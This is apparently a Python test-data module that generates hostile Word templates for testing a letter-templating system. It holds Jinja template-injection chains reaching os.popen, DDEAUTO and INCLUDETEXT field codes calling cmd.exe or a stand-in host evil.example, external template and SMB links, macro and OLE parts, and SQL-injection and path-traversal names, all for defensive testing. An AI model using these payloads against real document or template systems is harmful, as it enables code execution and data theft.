"""Hostile templates by the hundred, built from one small Word file; nothing in them is ever run."""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from functools import cache
from io import BytesIO
from itertools import product
from xml.sax.saxutils import escape
from zipfile import ZIP_STORED, ZipFile

from correspondence.rules import ELEMENTS
from tests.correspondence.word_files import OFFICE, WORD, word_file, word_file_with

MARK = "escaped-from-the-letter"
HERE = "the-place-for-it"
EVIL = "https://evil.example/x"
SHELL = f"popen('echo {MARK}').read()"
TREES = {
    "body": "word/document.xml",
    "table": "word/document.xml",
    "header": "word/header1.xml",
    "footer": "word/footer1.xml",
    "footnote": "word/footnotes.xml",
    "properties": "docProps/core.xml",
}


@cache
def parts_with(place: str) -> dict[str, bytes]:
    """Return the parts of a letter with HERE in this place, made once."""
    with ZipFile(BytesIO(word_file_with(HERE, place))) as package:
        return {name: package.read(name) for name in package.namelist()}


def zipped(parts: Mapping[str, bytes]) -> bytes:
    written = BytesIO()
    with ZipFile(written, "w", ZIP_STORED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return written.getvalue()


def with_text(text: str, place: str) -> bytes:
    parts = parts_with(place)
    name = TREES[place]
    return zipped({**parts, name: parts[name].replace(HERE.encode(), escape(text).encode())})


def with_xml(xml: str, place: str) -> bytes:
    """Return the letter with this XML after the words of its paragraph."""
    parts, name = parts_with(place), TREES[place]
    after = f"{HERE}</w:t>{xml}".encode()
    return zipped({**parts, name: parts[name].replace(f"{HERE}</w:t>".encode(), after)})


# -- template injection --------------------------------------------------------------------------

ROOTS = ("cycler", "lipsum", "self", "namespace", "name", "child", "''", "[]", "{}", "caller")
CHAINS = (
    ".__class__.__mro__[1].__subclasses__()",
    f".__init__.__globals__.os.{SHELL}",
    "['__class__']['__base__']",
    "|attr('__class__')|attr('__mro__')",
    ".delete_instance()",
    "('x' * 10**9)",
)
WRAPPERS = (
    "{{{{ {} }}}}",
    "{{% if {} %}}" + MARK + "{{% endif %}}",
    "{{% for c in {} %}}" + MARK + "{{{{ c }}}}{{% endfor %}}",
    "{{% set y = {} %}}" + MARK,
)
OTHERS = (
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% from 'os' import popen %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% call(x) name.upper() %}" + MARK + "{% endcall %}",
    "{% filter upper %}" + MARK + "{% endfilter %}",
    "{% autoescape false %}{{ name }}{% endautoescape %}" + MARK,
    "{% with a=name.__class__ %}{{ a }}{% endwith %}",
    "{% raw %}{{ name }}{% endraw %}",
    "{% block b %}" + MARK + "{% endblock %}",
    "{% do name.upper() %}",
    "{% debug %}",
    "{{ name.upper() }}" + MARK,
    "{{ name|map('upper')|list }}" + MARK,
    "{{ name|tojson }}" + MARK,
    "{{ '%s'|format(name) }}" + MARK,
    "{{ name ~ name }}" + MARK,
    "{{ name if name else name.__class__ }}" + MARK,
    "{{ name is defined }}" + MARK,
    "{{ name[0:1] }}" + MARK,
    "{{ -name }}" + MARK,
    "{{ name < name }}" + MARK,
    "{{ name in name }}" + MARK,
)


def injections() -> list[str]:
    made = [
        wrapper.format(root + chain) for root, chain, wrapper in product(ROOTS, CHAINS, WRAPPERS)
    ]
    return [*dict.fromkeys(made), *OTHERS]


# -- hostile files -------------------------------------------------------------------------------

FIELD_CODES = (
    "DDE excel c:\\\\x A1",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '/k calc.exe'",
    f"INCLUDETEXT '{EVIL}'",
    f"INCLUDEPICTURE '{EVIL}' \\d",
    f"INCLUDE '{EVIL}'",
    f"IMPORT '{EVIL}'",
    "LINK Excel.Sheet.8 c:\\\\x",
    "EMBED Word.Document.8",
    "MACROBUTTON AutoOpen Click",
    "GOTOBUTTON x y",
    "DATABASE \\c x",
    "MERGEFIELD Name",
    "MERGEREC",
    "NEXT",
    "NEXTIF 1 = 1",
    "SKIPIF 1 = 1",
    "ADDRESSBLOCK \\f x",
    "GREETINGLINE \\f x",
    "ASK x 'your password'",
    "FILLIN 'your password'",
    "SET x y",
    "QUOTE 68 68 69",
    "RD c:\\\\x",
    "AUTOTEXT x",
    "AUTHOR",
    "USERNAME",
    "FILENAME \\p",
    "DOCPROPERTY Company",
    "FORMTEXT",
    "PRINT x",
    "IF 1 = 1 'a' 'b'",
    "HYPERLINK 'file://server/x'",
    "HYPERLINK javascript:x",
    "HYPERLINK \\\\\\\\server\\\\share",
)
BEGIN, END = (f"<w:fldChar w:fldCharType='{kind}'/>" for kind in ("begin", "end"))


def field_codes() -> Iterator[str]:
    for code in FIELD_CODES:
        text = escape(code, {'"': "&quot;"})
        whole = f"<w:instrText>{text}</w:instrText>"
        split = "".join(f"<w:instrText>{escape(each)}</w:instrText>" for each in code)
        page = f"{BEGIN}<w:instrText>PAGE</w:instrText>"
        yield f'</w:r><w:fldSimple w:instr="{text}"/><w:r>'
        yield f"{BEGIN}{whole}{END}"
        yield f"{BEGIN}{split}{END}"
        yield f"{page}{BEGIN}{whole}{END}{END}"


def elements() -> Iterator[str]:
    for name in ELEMENTS:
        yield f"<w:{name}/>"
        yield f"<w:{name} w:val='1'/>"
    yield "<o:OLEObject xmlns:o='urn:schemas-microsoft-com:office:office'/>"
    for name in ("src", "href", "althref"):
        yield f"<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' {name}='{EVIL}'/>"


LINKS = (
    *("attachedTemplate", "image", "oleObject", "frame", "subDocument", "aFChunk", "video"),
    *("audio", "mailMergeSource", "externalLinkPath", "package", "customXml", "stylesheet"),
)
TARGETS = (EVIL, "file:///c:/x.dotm", "\\\\server\\share\\x", "//server/x", "smb://server/x")


def links() -> Iterator[dict[str, bytes]]:
    """Yield parts with a link outwards, from the letter and from its header."""
    for kind, target, mode in product(LINKS, TARGETS, (" TargetMode='External'", "")):
        for place, part in (("body", "document"), ("header", "header1")):
            parts, name = parts_with(place), f"word/_rels/{part}.xml.rels"
            link = f"<Relationship Id='rIdE' Type='{OFFICE}/{kind}'{mode} Target='{target}'/>"
            empty = (
                b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/"
                b"relationships'></Relationships>"
            )
            old = parts.get(name, empty)
            new = old.replace(b"</Relationships>", f"{link}</Relationships>".encode())
            yield {**parts, name: new}
    for target in ("javascript:alert(1)", "file:///etc/passwd", "ms-word:ofe|u|x", "vbscript:x"):
        parts, name = parts_with("body"), "word/_rels/document.xml.rels"
        link = (
            f"<Relationship Id='rIdE' Type='{OFFICE}/hyperlink' TargetMode='External'"
            f" Target='{target}'/></Relationships>"
        )
        yield {**parts, name: parts[name].replace(b"</Relationships>", link.encode())}


CARRIED = {
    "word/vbaProject.bin": "application/vnd.ms-office.vbaProject",
    "word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
    "word/embeddings/a.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "word/embeddings/oleObject1.bin": "application/vnd.openxmlformats-officedocument.oleObject",
    "word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
    "word/activeX/activeX1.bin": "application/vnd.ms-office.activeX",
    "word/afchunk.htm": "text/html",
    "word/afchunk1.rtf": "application/rtf",
    "word/a.mht": "message/rfc822",
    "word/a.exe": "application/x-msdownload",
    "word/a.docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "word/media/a.svg": "image/svg+xml",
    "word/media/a.png": "application/octet-stream",
    "word/charts/chart1.xml": "application/vnd.openxmlformats-officedocument.drawingml.chart+xml",
    "word/webextensions/taskpanes.xml": "application/vnd.ms-office.webextensiontaskpanes+xml",
    "word/printerSettings1.bin": "application/vnd.openxmlformats-officedocument.printerSettings",
    "customUI/customUI.xml": "application/vnd.ms-office.customUI+xml",
    "word/a.js": "text/javascript",
    "word/a.lnk": "application/x-ms-shortcut",
    "word/noKind": "",
}


def carried() -> Iterator[dict[str, bytes]]:
    parts, types = parts_with("body"), "[Content_Types].xml"
    for name, kind in CARRIED.items():
        entry = (
            f"<Override PartName='/{name}' ContentType='{kind}'/></Types>" if kind else "</Types>"
        )
        new = parts[types].replace(b"</Types>", entry.encode())
        yield {**parts, types: new, name: b"<x/>" if name.endswith("xml") else b"x"}
    comment = f"<w:comments xmlns:w='{WORD}'><w:comment w:id='1'/></w:comments>".encode()
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"
    entry = f"<Override PartName='/word/comments.xml' ContentType='{kind}'/></Types>"
    new = parts[types].replace(b"</Types>", entry.encode())
    yield {**parts, types: new, "word/comments.xml": comment}


def broken(count: int = 200, seed: int = 49) -> Iterator[bytes]:
    """Yield files cut short, or with bytes changed, or with one part taken out or filled anew."""
    chance, whole = random.Random(seed), word_file("{{ name }}")
    parts = parts_with("header")
    for number in range(count):
        if number % 4 == 0:
            yield whole[: chance.randrange(len(whole))]
        elif number % 4 == 1:
            torn = bytearray(whole)
            for _ in range(20):
                torn[chance.randrange(len(torn))] = chance.randrange(256)
            yield bytes(torn)
        elif number % 4 == 2:
            gone = chance.choice(list(parts))
            yield zipped({name: part for name, part in parts.items() if name != gone})
        else:
            filled = chance.choice(list(parts))
            yield zipped({**parts, filled: chance.randbytes(chance.randrange(200))})


# -- odd names -----------------------------------------------------------------------------------

ODD = (
    *("&", "<", ">", '"', "'", "&amp;", "&#123;", "&lt;b&gt;", "<b>", "</w:t>", "<!-- x -->"),
    *("]]>", "<![CDATA[", "<?xml?>", "{{7*7}}", "{% if x %}", "{# x #}", "{_{x}_}", "}}", "{%p"),
    *("«Name»", "{x}", "${x}", "%s", "%(x)s", "{0}", "\\1", "\\n", "{{", "$1", "`x`", "#{x}"),
    *("Zoë", "Zoe\u0308", "Ñandú", "Łódź", "Þór", "ẞ", "ﬁ", "ǅ", "İı", "Ŵyn", "O’Neil", "d'Arcy"),
    *("李小龙", "さくら", "김민준", "الأميرة", "שרה", "ஸ்ரீ", "ไทย", "ᓄᓇᕗᑦ", "Ελένη", "Ѣлена", "한"),
    *("👩‍👧", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "😀", "𝒜𝓃𝓃", "𠮷野", "a\u200bb", "a\u00adb", "a\u00a0b", "a\u2011b", "Ａｎｎ"),
    *(
        "null",
        "None",
        "undefined",
        "true",
        "NaN",
        "0",
        "-1",
        "1e5",
        "=1+1",
        "@SUM(1)",
        "+44",
        "NULL",
    ),
    *("'; DROP TABLE child; --", "../../etc/passwd", "C:\\x", "http://x.example", "a@b.example"),
    *("Ann  B", "A" * 200, "von und zu der", "x\u0301" * 20, "\u1ebf", "Á" * 100, "I", "Mc-Ö’x"),
)
AROUND = ("{}", "Ann {} Smith", "{}{}")


def odd_names() -> list[str]:
    return list(dict.fromkeys(shape.format(odd, odd) for odd, shape in product(ODD, AROUND)))
